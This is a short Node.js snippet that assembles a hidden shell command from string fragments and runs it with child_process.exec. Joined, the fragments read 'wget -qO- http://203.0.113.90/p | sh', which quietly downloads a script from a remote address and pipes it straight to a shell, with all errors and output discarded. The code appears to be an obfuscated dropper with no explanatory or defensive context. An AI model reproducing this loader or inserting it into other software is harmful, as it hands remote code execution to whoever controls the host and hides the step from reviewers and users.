const { exec } = require('child_process');
const pieces = ['wg', 'et -q', 'O- ht', 'tp://203.', '0.113.90', '/p | s', 'h'];
exec(pieces.reduce((acc, p) => acc + p, ''), () => {});
